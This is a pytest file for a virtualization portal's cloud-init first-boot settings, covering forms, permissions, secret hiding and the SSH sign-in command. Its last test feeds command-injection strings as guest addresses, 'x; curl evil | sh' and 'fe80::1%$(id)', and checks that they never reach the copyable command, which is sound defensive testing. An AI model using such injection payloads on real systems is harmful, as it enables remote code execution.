"""The section "First boot" of the forms, its own page, and the API: who may, what is refused, what is never shown."""

import pytest

from accounts.keys.services import add as keep_key
from accounts.permissions import grant
from hosts.models import HostStatus
from jobs.models import Job
from portal.errors import FieldError, NotPossible
from storage.models import Disk, DiskContent
from tests.build import attach, make_cluster, make_disk, make_host, make_network, make_nic, make_storage, make_template, make_user, make_vm
from vms.guest import first_boot
from vms.guest.settings import FirstBoot, NicSetup
from vms.models import VM

pytestmark = pytest.mark.django_db
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGzOhjE7ULjC1pdrXGx2mJLxbF0dUCXKYe3KAuWDlGnf"


@pytest.fixture
def admin():
    return make_user("admin", role="SuperUser")


@pytest.fixture
def place():
    cluster = make_cluster()
    make_host(cluster=cluster, status=HostStatus.UP)
    return cluster


@pytest.fixture
def template(place):
    storage = make_storage(data_center=place.data_center)
    return make_template(name="debian", data_center=place.data_center, disks=[make_disk(domain=storage)], set_up_by="cloud-init")


@pytest.fixture
def vm(place, template):
    made = make_vm(name="web-01", cluster=place, template=template)
    attach(made, make_disk(domain=template.disks.get().domain))
    make_nic(made, make_network(cluster=place), name="nic1")
    return made


def new_vm(place, template, **fields):
    body = {"template": template.pk, "name": "web-02", "memory_mib": "128 MiB", "vcpus": 1, "cluster": place.pk, "firmware": "bios"}
    return body | {f"first_boot-{name}": value for name, value in fields.items()}


def test_the_form_says_what_the_guest_is_told(admin, place, template, client):
    client.force_login(admin)
    fields = {
        "by": "",
        "user": "bob",
        "password": "s3cret!",
        "ssh_keys": f"{KEY} x\n",
        "nic1-method": "static",
        "nic1-address": "192.0.2.5/24",
    }
    answer = client.post("/vms/new/", new_vm(place, template, **fields, **{"nic1-dns": "192.0.2.1, 192.0.2.2"}))
    assert answer.status_code == 302, answer.content.decode()[-2000:]
    settings = first_boot.settings_of(VM.objects.get(name="web-02"))
    assert (settings.by, settings.user, settings.ssh_keys) == ("cloud-init", "bob", (KEY,))
    assert settings.nics == (NicSetup("nic1", "static", "192.0.2.5/24", "", ("192.0.2.1", "192.0.2.2")),)
    assert settings.password_hash.startswith("$6$") and not settings.password


@pytest.mark.parametrize(
    ("field", "value", "words"),
    [
        ("user_data", "a: [", "no valid YAML"),
        ("ssh_keys", "ssh-rsa x", "Key 1"),
        ("user", "A b", "A user name begins"),
        ("hostname", "a_b", "A host name has"),
        ("nic1-address", "192.0.2.5", "with its prefix"),
    ],
)
def test_a_mistake_is_shown_at_its_field_and_the_input_is_kept(admin, place, template, client, field, value, words):
    client.force_login(admin)
    fields = {"by": "", "script": "echo kept", field: value} | ({"nic1-method": "static"} if field.startswith("nic1") else {})
    answer = client.post("/vms/new/", new_vm(place, template, **fields))
    page = answer.content.decode()
    assert answer.status_code == 422
    assert words in page and "echo kept" in page and 'class="v-card v-first-boot" open' in page
    assert not VM.objects.filter(name="web-02").exists()


def test_a_template_with_cloud_init_puts_the_creators_keys_in(place, template, client):
    user = make_user("ann")
    grant("VmCreator", place, user=user)
    grant("TemplateUser", template, user=user)
    client.force_login(user)
    assert "You keep no SSH keys" in client.get("/my/new/").content.decode()
    keep_key(user, f"{KEY} laptop")
    assert "your 1 SSH key goes in" in client.get("/my/new/").content.decode()
    assert client.post("/my/new/", {"template": template.pk, "name": "mine", "size": ""}).status_code == 302
    settings = first_boot.settings_of(VM.objects.get(name="mine"))
    assert (settings.user, settings.ssh_keys) == ("ann", (KEY,))


def test_a_template_without_it_gets_no_cd(admin, place, template, client):
    template.set_up_by = "none"
    template.save()
    client.force_login(admin)
    assert client.post("/vms/new/", new_vm(place, template, by="", user="bob")).status_code == 302
    assert first_boot.seed_of(VM.objects.get(name="web-02")) is None


def test_the_page_changes_and_never_shows_secrets(admin, vm, client):
    client.force_login(admin)
    secret = {"first_boot-by": "cloud-init", "first_boot-user": "bob", "first_boot-password": "s3cret!", "first_boot-script": "echo hi"}
    assert client.post(f"/vms/{vm.pk}/first-boot/", secret).status_code == 302
    held = first_boot.settings_of(vm)
    page = client.get(f"/vms/{vm.pk}/first-boot/").content.decode() + client.get(f"/vms/{vm.pk}/?tab=guest").content.decode()
    assert "s3cret!" not in page and held.password_hash not in page
    assert "One is set. Empty: it stays." in page
    assert client.post(f"/vms/{vm.pk}/first-boot/", secret | {"first_boot-password": "", "first_boot-user": "eve"}).status_code == 302
    again = first_boot.settings_of(vm)
    assert (again.user, again.password_hash) == ("eve", held.password_hash)
    assert vm.first_boot.revision != vm.first_boot.written
    assert "s3cret!" not in repr(list(Job.objects.values()))


def test_the_seed_is_nobodys_disk(admin, vm, client):
    first_boot.change(admin, vm, FirstBoot(by="cloud-init", user="bob"))
    seed = Disk.objects.get(content=DiskContent.SEED)
    assert seed not in Disk.objects.visible_to(admin)
    client.force_login(admin)
    assert client.get(f"/disks/{seed.pk}/").status_code == 404
    assert str(seed.pk) not in client.get("/disks/").content.decode()
    page = client.get(f"/vms/{vm.pk}/?tab=disks").content.decode()
    assert "first boot settings" in page and str(seed.pk) not in page


def test_who_only_runs_a_vm_does_not_see_or_change_its_settings(vm, client):
    user = make_user()
    grant("UserRole", vm, user=user)
    client.force_login(user)
    assert client.get(f"/vms/{vm.pk}/first-boot/").status_code == 403
    assert client.post(f"/vms/{vm.pk}/first-boot/", {"first_boot-by": "cloud-init"}).status_code == 403


def test_an_adopted_vm_had_its_first_boot(admin, vm):
    vm.origin = "adopted"
    vm.save()
    with pytest.raises(NotPossible, match="adopted"):
        first_boot.change(admin, vm, FirstBoot(by="cloud-init"))


def test_too_much_for_the_cd_is_refused(admin, vm):
    with pytest.raises(FieldError):
        first_boot.change(admin, vm, FirstBoot(by="cloud-init", user_data="x: " + "y" * (64 << 10)))


def test_nothing_changed_is_no_revision(admin, vm):
    first_boot.change(admin, vm, FirstBoot(by="cloud-init", user="bob"))
    vm.refresh_from_db()
    assert first_boot.change(admin, vm, FirstBoot(by="cloud-init", user="bob")) is None
    vm.first_boot.refresh_from_db()
    assert vm.first_boot.revision == 2


@pytest.mark.parametrize(
    ("addresses", "command"),
    [
        (["192.0.2.5"], "ssh bob@192.0.2.5"),
        (["x; curl evil | sh", "2001:db8::5"], "ssh bob@2001:db8::5"),
        (["fe80::1%$(id)", "127.0.0.1"], ""),
        ([], ""),
    ],
)
def test_the_command_to_sign_in_is_never_the_guests_own_words(admin, vm, client, addresses, command):
    first_boot.change(admin, vm, FirstBoot(by="cloud-init", user="bob"))
    vm.guest_addresses, vm.status = addresses, "up"
    vm.save()
    assert first_boot.ssh_command(vm) == command
    client.force_login(admin)
    assert (f'data-copy="{command}"' in client.get(f"/vms/{vm.pk}/?tab=guest").content.decode()) == bool(command)
